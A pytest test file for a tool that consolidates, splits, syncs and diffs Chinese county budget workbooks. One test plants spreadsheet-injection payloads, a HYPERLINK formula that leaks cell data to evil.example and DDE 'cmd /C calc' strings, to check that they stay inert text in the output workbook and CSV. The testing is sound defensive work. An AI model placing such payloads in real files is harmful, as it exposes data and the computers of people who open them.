"""Consolidation and the round trip back down: merge, status, resubmissions, sync, split, diff."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import python_calamine as pc
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from types import SimpleNamespace

from budgetxl import consolidation
from budgetxl.form import load_template
from budgetxl.form.consolidated import sheet_name
from budgetxl.changes import diff_documents, split_consolidated, sync_document, sync_workbook
from budgetxl.consolidation import read_consolidated
from budgetxl.demo import simulated_submission, with_budget_mistakes
from budgetxl.consolidation import merge
from budgetxl.model import Submission
from budgetxl.workbook.reader import read_workbook
from budgetxl.files.tables import RosterUnit
from budgetxl.workbook.writer import generate_workbook

# The consolidated workbook's sheet names, and the statuses as its sheets show them (Chinese).
C = SimpleNamespace(
    **{w.upper(): sheet_name(load_template(), w) for w in ("summary", "status", "projects", "indicators", "units",
                                                            "findings")},
    **{k: consolidation.status_text(getattr(consolidation, k)) for k in dir(consolidation) if k.startswith("STATUS_")},
)

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "examples" / "juluxian-2024.json"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'

ROSTER = [
    RosterUnit("414001", "巨鹿县市场监督管理局本级", "130529"),
    RosterUnit("401001", "襄都区市场监督管理局本级", "130502"),
    RosterUnit("402001", "信都区市场监督管理局本级", "130503"),
    RosterUnit("403001", "任泽区市场监督管理局本级", "130505"),
    RosterUnit("404001", "南和区市场监督管理局本级", "130506"),
]


def seed() -> Submission:
    return Submission.from_json(SEED.read_bytes())


def unit_doc(i: int) -> Submission:
    return seed() if i == 0 else simulated_submission(seed(), ROSTER[i], i)


def sheet(path: Path, name: str) -> list[list]:
    return pc.CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def table(path: Path, name: str) -> list[dict]:
    """A sheet's rows under its header row (汇总 has a title and a subtitle above it), by heading
    (a heading's unit line, 预算数 / （万元）, left off)."""
    rows = sheet(path, name)
    top = next(i for i, r in enumerate(rows) if "单位编码" in r)
    header = [str(h).split("\n")[0] for h in rows[top]]
    return [dict(zip(header, r)) for r in rows[top + 1:]]


@pytest.fixture
def inbox(tmp_path: Path) -> dict[str, Path]:
    """Units 0-2 valid, unit 3 invalid, unit 4 missing; unit 1 resubmitted; unit 0 sent twice."""
    box = tmp_path / "inbox"
    files = {}
    first = box / "old" / f"{ROSTER[1].code}_第一次.xlsx"  # sent first, with a mistake
    generate_workbook(with_budget_mistakes(unit_doc(1)), first)
    past = first.stat().st_mtime - 86400
    os.utime(first, (past, past))
    files["first-try"] = first
    for i in (0, 1, 2):
        files[ROSTER[i].code] = box / f"{ROSTER[i].code}.xlsx"
        generate_workbook(unit_doc(i), files[ROSTER[i].code])
    files[ROSTER[3].code] = box / f"{ROSTER[3].code}.xlsx"
    generate_workbook(with_budget_mistakes(unit_doc(3)), files[ROSTER[3].code])
    dup = box / "again" / "巨鹿县(2).xlsx"
    dup.parent.mkdir(parents=True)
    dup.write_bytes(files[ROSTER[0].code].read_bytes())
    files["duplicate"] = dup
    return files


def test_totals_and_status(tmp_path, inbox):
    out = tmp_path / "汇总.xlsx"
    res = merge([tmp_path / "inbox"], out, roster=ROSTER)
    assert res.output == out and out.is_file()
    # Independent recomputation over the valid inputs (units 0, 1, 2: the corrected resubmission).
    docs = [unit_doc(i) for i in (0, 1, 2)]
    expect = {k: sum((getattr(p.budget, k) for d in docs for p in d.projects), Decimal(0))
              for k in ("total", "fiscal", "other")}
    rows = table(out, C.SUMMARY)
    total_row = rows[-1]
    assert total_row["单位编码"] == "合计"
    assert Decimal(repr(total_row["预算数"])) == expect["total"]
    assert Decimal(repr(total_row["财政资金"])) == expect["fiscal"]
    assert total_row["项目数"] == sum(len(d.projects) for d in docs)
    assert total_row["指标数"] == sum(len(p.indicators) for d in docs for p in d.projects)
    by_unit = {r["单位编码"]: r for r in rows[:-1]}
    assert [r["单位编码"] for r in rows[:-1]] == [u.code for u in ROSTER]  # roster order
    assert by_unit["403001"]["状态"] == C.STATUS_INVALID and by_unit["403001"]["预算数"] == ""
    assert by_unit["404001"]["状态"] == C.STATUS_MISSING
    # The status sheet lists every roster unit and every received file.
    status = table(out, C.STATUS)
    files = {Path(r["文件"].split("!")[-1]).name: r for r in status if r["文件"]}
    assert files["401001_第一次.xlsx"]["状态"] == C.STATUS_SUPERSEDED
    assert "401001.xlsx" in files["401001_第一次.xlsx"]["说明"]
    assert files["巨鹿县(2).xlsx"]["状态"] == C.STATUS_DUPLICATE or files["414001.xlsx"]["状态"] == C.STATUS_DUPLICATE
    assert {r["单位编码"] for r in status if r["状态"] == C.STATUS_MISSING} == {"404001"}
    assert len(status) == 6 + 1  # six files received, one roster unit without a file
    for r in status:
        if r["SHA-256"]:
            assert len(r["SHA-256"]) == 64
    # Findings of every file, including the invalid one.
    findings = table(out, C.FINDINGS)
    assert any(r["单位编码"] == "403001" and r["规则"] == "budget-sum" for r in findings)
    s = res.consolidation.summary()
    assert (s["expected"], s["received"], s["valid"], s["missing"]) == (5, 4, 3, ["404001"])


def test_include_invalid_counts_and_flags(tmp_path, inbox):
    out = tmp_path / "汇总.xlsx"
    merge([tmp_path / "inbox"], out, roster=ROSTER, include_invalid=True)
    rows = {r["单位编码"]: r for r in table(out, C.SUMMARY)}
    assert rows["403001"]["状态"] == C.STATUS_INCLUDED_INVALID
    assert Decimal(repr(rows["403001"]["预算数"])) == sum(p.budget.total for p in with_budget_mistakes(unit_doc(3)).projects)
    book = openpyxl.load_workbook(out)
    ws = book[C.SUMMARY]
    flagged = [r for r in ws.iter_rows(min_row=4) if r[0].value == "403001"][0]
    assert flagged[0].fill.fgColor.rgb.endswith("FFC7CE")


def test_prefer_overrides_newest(tmp_path, inbox):
    out = tmp_path / "汇总.xlsx"
    merge([tmp_path / "inbox"], out, roster=ROSTER, prefer=[str(inbox["first-try"])])
    rows = {r["单位编码"]: r for r in table(out, C.SUMMARY)}
    assert rows["401001"]["状态"] == C.STATUS_INVALID  # the preferred first try has mistakes
    assert rows["401001"]["文件"] == "401001_第一次.xlsx"


def test_strict_writes_nothing_and_exits_2(tmp_path, inbox):
    out = tmp_path / "汇总.xlsx"
    res = subprocess.run([sys.executable, "-m", "budgetxl", "merge", str(tmp_path / "inbox"), "-o", str(out),
                          "--strict", "--units", str(ROOT / "examples" / "xingtai-units.csv")],
                         capture_output=True, text=True, encoding="utf-8")
    assert res.returncode == 2, res.stdout + res.stderr  # nothing done
    assert not out.exists()


class _GbkInfo(zipfile.ZipInfo):
    """A member name as Windows' built-in zip tool writes it: GBK bytes, no UTF-8 flag."""

    def _encodeFilenameFlags(self):
        return self.filename.encode("gbk"), self.flag_bits & ~0x800


def _zip(path: Path, members: dict[str, bytes], gbk: bool) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            info = (_GbkInfo if gbk else zipfile.ZipInfo)(name, date_time=(2024, 3, 1, 9, 0, 0))
            zf.writestr(info, data)
    if gbk:
        with zipfile.ZipFile(path) as zf:  # really written without the flag, so not readable as UTF-8
            assert all(not (i.flag_bits & 0x800) for i in zf.infolist())


@pytest.mark.parametrize("gbk", [False, True])
def test_zip_archives_with_utf8_and_gbk_names(tmp_path, gbk):
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    generate_workbook(unit_doc(0), a)
    generate_workbook(unit_doc(2), b)
    archive = tmp_path / "邮件附件.zip"
    _zip(archive, {"巨鹿县/巨鹿县绩效目标表（修改版）(2).xlsx": a.read_bytes(), "信都区.xlsx": b.read_bytes(),
                   "说明.txt": b"ignored"}, gbk)
    out = tmp_path / "汇总.xlsx"
    res = merge([archive], out)
    names = sorted(e.display.split("!")[1] for e in res.consolidation.entries)
    assert names == ["信都区.xlsx", "巨鹿县/巨鹿县绩效目标表（修改版）(2).xlsx"]
    assert [u.code for u in res.consolidation.counted] == ["402001", "414001"]


def test_formula_injection_stays_text_everywhere(tmp_path):
    doc = unit_doc(0)
    doc.projects[0].purpose = INJECTION
    doc.projects[0].goals[0] = "+cmd|' /C calc'!A0"
    doc.projects[0].indicators[0].description = "@SUM(1+1)*cmd|' /C calc'!A0"
    src = tmp_path / "in" / "巨鹿县.xlsx"
    generate_workbook(doc, src)
    assert read_workbook(src).doc.projects[0].purpose == INJECTION
    out = tmp_path / "汇总.xlsx"
    merge([src], out, data_dir=tmp_path / "data")
    book = openpyxl.load_workbook(out)
    typed = {INJECTION, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"}
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in typed:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
                elif cell.data_type == "f":
                    assert cell.value.startswith(("=SUM(",)), (ws.title, cell.coordinate, cell.value)
    assert seen == typed
    csv_text = (tmp_path / "data" / "projects.csv").read_text(encoding="utf-8-sig")
    assert "'" + INJECTION.replace('"', '""') in csv_text
    assert "\n=" not in csv_text and ",=" not in csv_text
    # the consolidated file reads back to the literal text
    assert read_consolidated(out)[0].projects[0].purpose == INJECTION


def test_negative_numbers_stay_numbers_in_the_csv(tmp_path):
    """The quote prefix keeps formula-looking *text* text; a number's spelling ("-5") is no text."""
    doc = unit_doc(0)
    doc.projects[0].indicators[0].value = "≥-5%"
    doc.projects[0].indicators[1].description = "-5 is a text here"
    src = tmp_path / "in" / "巨鹿县.xlsx"
    generate_workbook(doc, src)
    merge([src], tmp_path / "汇总.xlsx", data_dir=tmp_path / "data")
    rows = pd.read_csv(tmp_path / "data" / "indicators.csv", encoding="utf-8-sig", dtype=str)
    assert rows["number"].iloc[0] == "-5"
    assert rows["description"].iloc[1] == "'-5 is a text here"
    assert pd.read_parquet(tmp_path / "data" / "indicators.parquet")["number"].iloc[0] == -5


def test_merge_split_merge_returns_the_same_data(tmp_path, inbox):
    first = tmp_path / "first.xlsx"
    merge([tmp_path / "inbox"], first, roster=ROSTER)
    docs = read_consolidated(first)
    assert [d.unit.code for d in docs] == ["414001", "401001", "402001"]
    assert docs[0] == unit_doc(0) and docs[1] == unit_doc(1) and docs[2] == unit_doc(2)
    split = split_consolidated(first, tmp_path / "split")
    # every unit of the summary gets a workbook: the consolidated ones with their data, the invalid
    # and the missing one blank (and named)
    assert [(u.code, u.source) for u in split.units] == [
        ("414001", "data"), ("401001", "data"), ("402001", "data"), ("403001", "blank"), ("404001", "blank")]
    assert [u.status for u in split.empty] == ["invalid", "missing"]
    assert all(u.code in p.name for p, u in zip(split.outputs, split.units))
    second = tmp_path / "second.xlsx"
    merge(split.outputs[:3], second, roster=ROSTER)
    assert read_consolidated(second) == docs
    for name in (C.PROJECTS, C.INDICATORS, C.UNITS):
        assert sheet(first, name) == sheet(second, name)


def test_merge_split_fill_merge_keeps_every_field(tmp_path):
    src = tmp_path / "in" / "a.xlsx"
    generate_workbook(unit_doc(0), src)
    first = tmp_path / "c1.xlsx"
    merge([src], first)
    out = split_consolidated(first, tmp_path / "next").outputs[0]
    # A clerk fills the next year's workbook: edits a goal and an indicator value in Excel.
    book = openpyxl.load_workbook(out)
    ws = book["1.非财政开支人员工作经费"]
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == "该项目的实施有利于调动非财政人员工作积极性":
                cell.value = "2025年继续调动非财政人员工作积极性"
            if cell.value == 40 and ws.cell(cell.row, cell.column - 1).value == "≤":  # ≤40人
                cell.value = 42
    book.save(out)
    second = tmp_path / "c2.xlsx"
    merge([out], second)
    (doc,) = read_consolidated(second)
    expected = unit_doc(0).model_copy(deep=True)
    expected.projects[0].goals[1] = "2025年继续调动非财政人员工作积极性"
    expected.projects[0].indicators[0].value = "≤42人"
    assert doc == Submission.model_validate(expected.model_dump(by_alias=True))


def test_split_with_new_budget_list(tmp_path):
    src = tmp_path / "in" / "a.xlsx"
    generate_workbook(unit_doc(0), src)
    cons = tmp_path / "c.xlsx"
    merge([src], cons)
    budget = tmp_path / "2025预算.csv"
    budget.write_text(
        "单位编码,项目编码,项目名称,预算数,财政资金,其他资金\n"
        "414001,13052924P005840123885,非财政开支人员工作经费,80,80,0\n"
        "414001,13052925P005840129999,新增项目,12.5,10,2.5\n", encoding="utf-8")
    res = split_consolidated(cons, tmp_path / "out", year=2025, budget=budget)
    doc = read_workbook(res.outputs[0]).doc
    assert doc.year == 2025 and [p.code for p in doc.projects] == ["13052924P005840123885", "13052925P005840129999"]
    assert doc.projects[0].budget.total == Decimal(80)
    assert doc.projects[0].indicators == unit_doc(0).projects[0].indicators  # carried forward
    assert doc.projects[1].budget.other == Decimal("2.5") and doc.projects[1].indicators == []
    kinds = sorted(c.kind for c in res.changes["414001"])
    assert kinds.count("withdrawn") == 9 and "added" in kinds


def test_data_files(tmp_path, inbox):
    data = tmp_path / "data"
    merge([tmp_path / "inbox"], tmp_path / "c.xlsx", roster=ROSTER, data_dir=data)
    docs = [unit_doc(i) for i in (0, 1, 2)]
    n_ind = sum(len(p.indicators) for d in docs for p in d.projects)
    for fmt in ("csv", "parquet", "json"):
        for name, n in (("projects", sum(len(d.projects) for d in docs)), ("indicators", n_ind)):
            path = data / f"{name}.{fmt}"
            frame = (pd.read_csv(path, encoding="utf-8-sig", dtype=str) if fmt == "csv" else
                     pd.read_parquet(path) if fmt == "parquet" else pd.DataFrame(json.loads(path.read_text("utf-8"))))
            assert len(frame) == n, (name, fmt)
    projects = pd.read_parquet(data / "projects.parquet")
    assert round(projects["total"].sum(), 6) == float(sum(p.budget.total for d in docs for p in d.projects))
    subs = json.loads((data / "submissions.json").read_text("utf-8"))
    assert [Submission.model_validate(s) for s in subs] == docs


# ---- sync ---------------------------------------------------------------------------------------

def test_sync_cli_changes_issued_values_and_keeps_filled(tmp_path):
    wb = tmp_path / "巨鹿县.xlsx"
    generate_workbook(unit_doc(0), wb)
    before = wb.read_bytes()
    issued = unit_doc(0).model_dump(by_alias=True)
    issued["projects"][0]["budget"] = {"total": 75, "fiscal": 70, "other": 5}
    issued["projects"][1]["name"] = "省级市场监管补助经费（调整）"
    del issued["projects"][9]
    issued["projects"].append({"code": "13052924P005840199999", "name": "新增专项", "budget": {"total": 3, "fiscal": 3, "other": 0}})
    doc_path = tmp_path / "issued.json"
    doc_path.write_text(json.dumps(Submission.model_validate(issued).to_data(), ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "synced.xlsx"
    res = subprocess.run([sys.executable, "-m", "budgetxl", "sync", str(wb), "--from", str(doc_path), "-o", str(out)],
                         capture_output=True, text=True, encoding="utf-8")
    assert res.returncode == 1, res.stderr  # changes made
    assert wb.read_bytes() == before
    assert "新增项目" in res.stdout and "撤回项目" in res.stdout
    # said in the form's words: the project by code and name, the field by its label
    assert "修改 13052924P005840123885 非财政开支人员工作经费：预算数 70 → 75" in res.stdout
    got = read_workbook(out).doc
    assert got.projects[0].budget.total == 75 and got.projects[0].goals == unit_doc(0).projects[0].goals
    assert got.projects[1].indicators == unit_doc(0).projects[1].indicators
    assert [p.code for p in got.projects][-1] == "13052924P005840199999"
    assert len(got.projects) == 10
    # the renewed fingerprint makes the synced workbook pass issued-field-changed
    from budgetxl.workbook.validate import validate_file

    assert not [f for f in validate_file(out).findings if f.rule == "issued-field-changed"]


def test_sync_in_place_keeps_a_backup(tmp_path):
    wb = tmp_path / "巨鹿县.xlsx"
    generate_workbook(unit_doc(0), wb)
    before = wb.read_bytes()
    issued = unit_doc(0)
    issued.projects[2].budget.total = Decimal("5.5")
    issued.projects[2].budget.fiscal = Decimal("5.5")
    res = sync_workbook(wb, issued, None, in_place=True)
    assert res.backup is not None and res.backup.read_bytes() == before
    assert read_workbook(wb).doc.projects[2].budget.total == Decimal("5.5")


amounts = st.decimals(min_value=0, max_value=100000, places=2, allow_nan=False, allow_infinity=False)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_filled_fields_survive_any_issued_change(data):
    current = unit_doc(0)
    codes = [p.code for p in current.projects]
    keep = data.draw(st.lists(st.sampled_from(range(len(codes))), unique=True, max_size=len(codes)))
    issued_projects = []
    for i in keep:
        p = current.projects[i]
        new_code = data.draw(st.sampled_from([p.code, p.code[:-2] + "ZZ"]))
        new_name = data.draw(st.sampled_from([p.name, p.name + "（调整）"]))
        if new_code != p.code and new_name != p.name:
            new_name = p.name  # a code and a name changed at once cannot be matched: not an issued change
        issued_projects.append({"code": new_code, "name": new_name,
                                "budget": {"total": data.draw(amounts), "fiscal": data.draw(amounts), "other": 0}})
    added = data.draw(st.integers(0, 2))
    for k in range(added):
        issued_projects.append({"code": f"13052924P0058401999{k:02d}", "name": f"新增{k}", "budget": {"total": 1}})
    issued = Submission.model_validate({"template": current.template.model_dump(), "year": 2024,
                                        "unit": current.unit.model_dump(), "projects": issued_projects})
    res = sync_document(current, issued, previously_issued=codes)
    assert len(res.doc.projects) == len(keep) + added
    for j, i in enumerate(keep):
        old, new = current.projects[i], res.doc.projects[j]
        assert (new.purpose, new.spending_plan, new.goals, new.indicators) == \
               (old.purpose, old.spending_plan, old.goals, old.indicators)
        assert (new.code, new.name, new.budget) == (issued.projects[j].code, issued.projects[j].name, issued.projects[j].budget)
    assert res.doc.overview == current.overview
    withdrawn = {c.project for c in res.changes if c.kind == "withdrawn"}
    assert withdrawn == {codes[i] for i in range(len(codes)) if i not in keep}


# ---- diff ---------------------------------------------------------------------------------------

def test_diff_reports_projects_fields_and_indicators(tmp_path):
    old = unit_doc(0)
    new = old.model_copy(deep=True)
    new.projects[0].budget.total = Decimal(71)
    new.projects[1].indicators[0].value = "3个"
    new.projects[2].indicators.append(new.projects[2].indicators[0].model_copy(update={"name": "新指标"}))
    new.projects[3].indicators.pop()
    del new.projects[9]
    a, b = tmp_path / "old.xlsx", tmp_path / "new.xlsx"
    generate_workbook(old, a)
    generate_workbook(new, b)
    result = diff_documents(read_workbook(a).doc, read_workbook(b).doc)
    assert result["projects"]["removed"] == [{"code": old.projects[9].code, "name": old.projects[9].name}]
    changed = {p["code"]: p for p in result["projects"]["changed"]}
    assert changed[old.projects[0].code]["fields"] == [{"field": "budget.total", "old": "70", "new": "71"}]
    assert changed[old.projects[1].code]["indicators"]["changed"][0]["fields"] == [{"field": "value", "old": "2个", "new": "3个"}]
    assert changed[old.projects[2].code]["indicators"]["added"][0]["name"] == "新指标"
    assert len(changed[old.projects[3].code]["indicators"]["removed"]) == 1
    res = subprocess.run([sys.executable, "-m", "budgetxl", "diff", str(SEED), str(b), "--format", "json"],
                         capture_output=True, text=True, encoding="utf-8")
    assert res.returncode == 1 and json.loads(res.stdout) == json.loads(json.dumps(result, ensure_ascii=False, default=str))
    text = subprocess.run([sys.executable, "-m", "budgetxl", "diff", str(SEED), str(b)], capture_output=True,
                          text=True, encoding="utf-8")
    assert text.returncode == 1  # there are differences
    # the form's words and readable values, never keys or Python reprs
    assert "预算数：70 → 71" in text.stdout and "budget.total" not in text.stdout and "[" not in text.stdout
    assert f"{old.projects[0].code} {old.projects[0].name}" in text.stdout  # the project by code and name
    same = subprocess.run([sys.executable, "-m", "budgetxl", "diff", str(SEED), str(a)], capture_output=True,
                          text=True, encoding="utf-8")
    assert same.returncode == 0 and "相同" in same.stdout


# ---- what a careless run or an odd workbook must not do ---------------------------------------------

def test_merge_never_overwrites_an_input_and_skips_its_own_output(tmp_path):
    src = tmp_path / "inbox" / "巨鹿县.xlsx"
    generate_workbook(unit_doc(0), src)
    before = src.read_bytes()
    res = subprocess.run([sys.executable, "-m", "budgetxl", "merge", str(src), "-o", str(src)],
                         capture_output=True, text=True, encoding="utf-8")
    assert res.returncode == 2 and len(res.stderr.strip().splitlines()) == 1
    assert src.read_bytes() == before
    # the consolidated file left in the inbox is not taken for a county's submission next time
    first = merge([tmp_path / "inbox"], tmp_path / "inbox" / "汇总.xlsx", include_invalid=True)
    again = merge([tmp_path / "inbox"], tmp_path / "汇总2.xlsx", include_invalid=True)
    assert [u.code for u in again.consolidation.counted] == [u.code for u in first.consolidation.counted] == ["414001"]
    skipped = [e for e in again.consolidation.entries if e.display.endswith("汇总.xlsx")]
    assert skipped and skipped[0].error[0] == "is-consolidated" and skipped[0].status == consolidation.STATUS_UNREADABLE


def test_streamed_sheets_escape_literal_escapes(tmp_path):
    doc = unit_doc(0)
    doc.projects[0].name = "备注_x0041_与_x000D_结尾"
    src = tmp_path / "a.xlsx"
    generate_workbook(doc, src)
    out = tmp_path / "c.xlsx"
    merge([src], out, include_invalid=True)
    assert read_consolidated(out)[0].projects[0].name == "备注_x0041_与_x000D_结尾"


def test_streamed_sheets_cut_text_at_excels_cell_limit(tmp_path):
    from budgetxl.form.consolidated import Column as Col
    from budgetxl.workbook.xlsx import Styles, new_workbook
    from budgetxl.workbook.stream import MAX_CELL_TEXT, StreamedTable, splice

    path = tmp_path / "t.xlsx"
    wb = new_workbook(str(path), constant_memory=True)
    st = Styles(wb)
    formats = {k: st.get() for k in ("text", "amount", "int", "percent")}
    formats["quoted"] = st.get(quote_prefix=True)
    table = StreamedTable(wb, st, "长文本", [Col("t", "文本")], tmp_path, formats)
    table.add({"t": "长" * 40000})
    table.add({"t": "=1+1"})
    table.close()
    wb.close()
    splice(path, [table])
    ws = openpyxl.load_workbook(path)["长文本"]
    assert len(ws["A2"].value) == MAX_CELL_TEXT
    assert ws["A3"].value == "=1+1" and ws["A3"].data_type == "s" and ws["A3"].quotePrefix


def _copy_first_project_sheet(path: Path, purpose: str) -> None:
    book = openpyxl.load_workbook(path)
    copy = book.copy_worksheet(book["1.非财政开支人员工作经费"])
    for row in copy.iter_rows():
        for cell in row:
            if cell.value == "资金用途":
                copy.cell(cell.row, cell.column + 1).value = purpose
    book.save(path)


def test_sync_keeps_a_copied_sheet_and_the_original(tmp_path):
    wb = tmp_path / "巨鹿县.xlsx"
    generate_workbook(unit_doc(0), wb)
    _copy_first_project_sheet(wb, "新项目的资金用途")
    issued = unit_doc(0)
    issued.projects[0].budget.total = Decimal(80)
    res = sync_workbook(wb, issued, tmp_path / "out.xlsx")
    got = read_workbook(tmp_path / "out.xlsx").doc
    assert len(got.projects) == 11
    assert got.projects[0].purpose == unit_doc(0).projects[0].purpose and got.projects[0].budget.total == 80
    assert got.projects[10].purpose == "新项目的资金用途"
    assert not [c for c in res.changes if c.kind == "withdrawn"]


def test_sync_without_metadata_keeps_what_it_cannot_place(tmp_path):
    wb = tmp_path / "巨鹿县.xlsx"
    generate_workbook(unit_doc(0), wb)
    book = openpyxl.load_workbook(wb)
    del book["_meta"]
    book.save(wb)
    issued = unit_doc(0)
    del issued.projects[9]
    res = sync_workbook(wb, issued, tmp_path / "out.xlsx")
    assert len(read_workbook(tmp_path / "out.xlsx").doc.projects) == 10
    assert [c.kind for c in res.changes] == ["kept"]


def test_diff_pairs_duplicates_and_renamed_codes():
    old = unit_doc(0)
    new = old.model_copy(deep=True)
    new.projects.append(new.projects[0].model_copy(deep=True, update={"purpose": "副本"}))
    new.projects[1].code = "13052924P0058421073ZZ"
    result = diff_documents(old, new)
    assert result["projects"]["added"] == [{"code": old.projects[0].code, "name": old.projects[0].name}]
    assert not result["projects"]["removed"]
    changed = {p["name"]: p for p in result["projects"]["changed"]}
    assert changed[old.projects[1].name]["fields"] == [{"field": "code", "old": old.projects[1].code,
                                                        "new": "13052924P0058421073ZZ"}]
    assert old.projects[0].name not in changed
